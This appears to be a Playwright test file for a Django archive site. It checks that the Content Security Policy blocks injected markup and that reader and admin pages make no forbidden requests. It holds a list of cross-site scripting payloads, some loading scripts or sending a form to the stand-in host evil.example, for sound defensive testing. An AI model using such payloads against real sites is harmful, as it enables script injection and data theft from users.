@@ -1,0 +1,191 @@
+"""The content policy in a real browser: what is smuggled into a page does not run, and the site itself,
+readers' pages and every kind of page of the admin, asks for nothing that the policy forbids.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+
+import pytest
+from django.contrib import admin
+from django.contrib.auth import get_user_model
+from django.test import Client
+from django.urls import reverse
+from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
+
+from archive.models import Article, Batch, Newspaper, Official
+from archive.models import Page as Printed
+from archive.tests import factories as make
+from search.tests.browsing import WALKS, archive, browser_type_launch_args
+
+__all__ = ["archive", "browser_type_launch_args"]  # fixtures
+
+pytestmark = WALKS
+PASSWORD = "long-Enough-7"
+TELL = """
+  document.addEventListener("securitypolicyviolation", (event) => {
+    const node = event.target.outerHTML?.slice(0, 200) ?? "";
+    told(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${node}`);
+  });
+"""
+# Ways to run a script, to change how a page looks, or to send what is typed elsewhere.
+SMUGGLED = {
+    "script": "<script>window.ran = 1</script>",
+    "script of another host": "<script src='https://evil.example/x.js'></script>",
+    "script of data": "<script src='data:text/javascript,window.ran=1'></script>",
+    "module": "<script type=module>window.ran = 1</script>",
+    "handler": "<img src=/nowhere.png onerror='window.ran = 1'>",
+    "svg": "<svg onload='window.ran = 1'><script>window.ran = 1</script></svg>",
+    "link": "<a id=smuggled href='javascript:window.ran = 1'>x</a>",
+    "frame": "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
+    "frame of script": "<iframe src='javascript:parent.ran = 1'></iframe>",
+    "object": "<object data='data:text/html,<script>parent.ran = 1</script>'></object>",
+    "style": "<style>body { outline: 7px solid red }</style>",
+    "attribute": "<p style='outline: 7px solid red'>x</p>",
+    "sheet of another host": "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "picture of another host": "<img src='https://evil.example/pixel.gif'>",
+    "form": "<form id=smuggled action='https://evil.example/'><button>x</button></form>",
+    "base": "<base href='https://evil.example/'>",
+    "htmx": "<p hx-on:load='window.ran = 1' hx-get='js:window.ran = 1' hx-trigger='load[window.ran = 1]'>x</p>",
+}
+
+
+CLICK = "document.querySelector('#smuggled button, a#smuggled')?.click()"
+
+
+@dataclass
+class Watch:
+    """What the browser told of a walk: what the policy forbade, errors, requests elsewhere."""
+
+    forbidden: list[str] = field(default_factory=list)
+    faults: list[str] = field(default_factory=list)
+
+    def over(self, context: BrowserContext, address: str) -> None:
+        context.expose_function("told", lambda what: self.forbidden.append(what))
+        context.add_init_script(TELL)
+        context.on("page", lambda page: self.look(page, address))
+
+    def look(self, page: Page, address: str) -> None:
+        page.on("pageerror", lambda error: self.faults.append(f"{page.url}: {error}"))
+        page.on("console", lambda one: self.heard(page, one.type, one.text))
+        page.on("request", lambda one: self.asked(page, one.url, address))
+
+    def heard(self, page: Page, kind: str, text: str) -> None:
+        if kind in ("error", "warning") and "Failed to load resource" not in text:
+            self.faults.append(f"{page.url}: {text}")
+
+    def asked(self, page: Page, url: str, address: str) -> None:
+        if not url.startswith((address, "data:")):
+            self.faults.append(f"{page.url} asks for {url}")
+
+
+@pytest.fixture
+def watch() -> Watch:
+    return Watch()
+
+
+@pytest.fixture
+def view(browser: Browser, live_server, watch: Watch) -> Iterator[Page]:
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="zh-CN")
+    watch.over(context, live_server.url)
+    yield context.new_page()
+    context.close()
+
+
+@pytest.fixture
+def boss(view: Page, live_server) -> Page:
+    """A page of an administrator."""
+    get_user_model().objects.create_superuser("boss", "boss@example.org", PASSWORD)
+    view.goto(f"{live_server.url}/admin/login/")
+    view.fill("input[name=username]", "boss")
+    view.fill("input[name=password]", PASSWORD)
+    view.locator("#login-form [type=submit]").click()
+    expect(view.locator("#user-tools")).to_be_visible()
+    return view
+
+
+def smuggle(page: Page, markup: str) -> None:
+    """As if a page had forgotten to escape: the answer with its own headers, and more in its text."""
+
+    def answer(route: Route) -> None:
+        response = route.fetch()
+        body = response.text()
+        end = body.rindex("</main>")
+        route.fulfill(response=response, body=body[:end] + markup + body[end:])
+
+    page.route(lambda url: url.endswith("?smuggled"), answer)
+
+
+@pytest.mark.parametrize("path", ["/search/", "/admin/"])
+def test_nothing_that_is_smuggled_in_runs(boss: Page, live_server, path: str, watch: Watch) -> None:
+    for kind, markup in SMUGGLED.items():
+        boss.unroute_all()
+        smuggle(boss, markup)
+        watch.forbidden.clear()
+        boss.goto(f"{live_server.url}{path}?smuggled")
+        boss.evaluate(CLICK)
+        boss.wait_for_timeout(50)
+        assert boss.evaluate("window.ran") is None, kind
+        assert boss.evaluate("getComputedStyle(document.body).outlineWidth") != "7px", kind
+        assert boss.evaluate("document.baseURI").startswith(live_server.url), kind
+        assert boss.url.startswith(f"{live_server.url}{path}"), kind
+        assert watch.forbidden, f"the policy did not meet: {kind}"
+    assert not [one for one in watch.faults if "asks for" in one]
+    with pytest.raises(Exception, match="unsafe-eval|Content Security Policy"):
+        boss.evaluate("() => { const run = eval; return run('1 + 1') }")
+
+
+def test_readers_pages_ask_for_nothing_forbidden(view: Page, archive: str, watch: Watch) -> None:
+    view.goto(archive)
+    todo = ["/", "/search/?q=储能", "/search/?q=没有的词", "/trends/?series=储能",
+            "/diffusion/?q=储能", "/figures/", "/figures/compare/?indicator=地区生产总值", "/api/",
+            "/cities/", "/cities/370000/", "/officials/", "/industries/", "/industries/energy-storage/",
+            "/newspapers/", "/account/login/", "/account/reset/", "/desk/", "/nowhere/",
+            Article.objects.order_by("pk").first().get_absolute_url(),
+            Article.objects.order_by("pk").first().get_absolute_url() + "?marks=mentions&q=发展",
+            Official.objects.order_by("pk").first().get_absolute_url(),
+            Newspaper.objects.filter(issues__isnull=False).first().get_absolute_url(),
+            Printed.objects.first().get_absolute_url()]  # fmt: skip
+    for path in todo:
+        view.goto(archive + path)
+        if path.startswith("/search/?q=储能"):  # htmx replaces a part of the page
+            view.locator("[data-hit]").first.wait_for()
+            view.locator(".facets a, .facet a").filter(visible=True).first.click()
+            view.wait_for_timeout(300)
+            view.locator("input[name=q]").first.fill("泰安")
+            view.wait_for_timeout(400)
+    assert (watch.forbidden, watch.faults) == ([], [])
+
+
+def admin_addresses() -> list[str]:
+    """Each kind of page of each model that the admin knows, with a row to show."""
+    found = ["/admin/", "/admin/password_change/", "/admin/archive/", "/admin/nowhere/"]
+    for model in admin.site._registry:
+        base = f"admin:{model._meta.app_label}_{model._meta.model_name}"
+        found += [reverse(f"{base}_changelist"), f"{reverse(f'{base}_changelist')}?q=a&o=1", reverse(f"{base}_add")]  # fmt: skip
+        row = model.objects.order_by("pk").first()
+        if row is not None:
+            found += [reverse(f"{base}_{page}", args=[row.pk]) for page in ("change", "history", "delete")]  # fmt: skip
+    paper, page = Newspaper.objects.filter(issues__isnull=False).first(), Printed.objects.first()
+    two = Official.objects.order_by("pk")[:2]
+    return [
+        *found,
+        f"/admin/archive/newspaper/{paper.pk}/calendar/",
+        f"/admin/archive/page/{page.pk}/review/",
+        "/admin/archive/official/likely/",
+        f"/admin/archive/official/merge/?id={two[0].pk}&id={two[1].pk}",
+        f"/admin/archive/official/{two[0].pk}/split/",
+        f"/admin/auth/user/{get_user_model().objects.first().pk}/password/",
+    ]
+
+
+def test_pages_of_the_admin_ask_for_nothing_forbidden(
+    archive: str, boss: Page, watch: Watch
+) -> None:
+    shown = set()
+    for address in admin_addresses():
+        answer = boss.goto(archive + address)
+        assert answer is not None and answer.status < 500, address
+        shown.add(answer.status)
+    assert (watch.forbidden, watch.faults) == ([], []) and 200 in shown
